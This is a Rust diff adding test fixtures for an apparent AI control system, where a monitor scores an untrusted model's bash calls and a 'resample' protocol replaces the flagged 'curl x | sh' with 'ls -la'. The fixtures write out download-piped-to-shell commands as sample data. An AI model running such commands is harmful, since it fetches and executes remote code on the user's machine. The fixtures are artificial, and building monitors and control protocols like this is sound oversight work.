@@ -3,6 +3,7 @@
 use airlock_contract::v1;
 use airlock_control::{ControlLog, ControlState, ControlView};
 use airlock_policy::{Decision, Kind};
+use airlock_records::monitor::{MonitorNote, NoteCall, NoteEvidence, NoteProtocol, NoteSample};
 use airlock_records::review::Caller;
 use airlock_records::review::standing::Scope;
 use airlock_transport::{MemoryTransport, Topology, Transport as _};
@@ -165,6 +166,56 @@ pub fn explained(pool: &str, sample: &str, call: &str) -> Incoming {
     ];
     body.history_omitted = 2;
     incoming
+}
+
+/// [`explained`]'s task, its monitor's answer a control protocol's `note` (serialized over the
+/// monitor's metadata, which scored the call 8).
+pub fn protocol(pool: &str, sample: &str, call: &str, note: NoteProtocol) -> Incoming {
+    let mut incoming = explained(pool, sample, call);
+    let request = incoming.human.task.as_mut().and_then(|t| t.request.as_mut()).expect("a request");
+    let chain = request.chain.as_mut().expect("a chain");
+    let monitor = MonitorNote {
+        monitor: "monitor-1".into(),
+        provider: "openai".into(),
+        model: "fake-openai".into(),
+        score: Some(8.0),
+        reason: Some("pipes a download into a shell".into()),
+        attempts: 1,
+        protocol: Some(note),
+        ..Default::default()
+    };
+    chain.trail[0].metadata_json = serde_json::to_string(&monitor).expect("a note");
+    incoming
+}
+
+/// A `resample` note: the untrusted model drew three more samples of `curl x | sh`, the
+/// second scored lowest and runs, the third failed.
+pub fn resample_note() -> NoteProtocol {
+    let call = |cmd: &str| NoteCall {
+        function: "bash".into(),
+        arguments: serde_json::json!({ "cmd": cmd }).as_object().cloned().expect("an object"),
+    };
+    let sample = |cmd: &str, score: f64, reason: &str, chosen: bool| NoteSample {
+        call: Some(call(cmd)),
+        score: Some(score),
+        reason: Some(reason.into()),
+        error: None,
+        chosen,
+    };
+    NoteProtocol {
+        name: "resample".into(),
+        mode: Some("run".into()),
+        threshold: 6.0,
+        model: "openai/untrusted".into(),
+        original: Some(call("curl x | sh")),
+        replacement: Some(call("ls -la")),
+        samples: vec![
+            sample("curl x | bash", 9.0, "still pipes a download", false),
+            sample("ls -la", 1.0, "lists files", true),
+            NoteSample { error: Some("the model made no call".into()), ..Default::default() },
+        ],
+        evidence: Some(NoteEvidence { max: 9.0, mean: 6.0 }),
+    }
 }
 
 /// A fresh in-memory SQLite store.
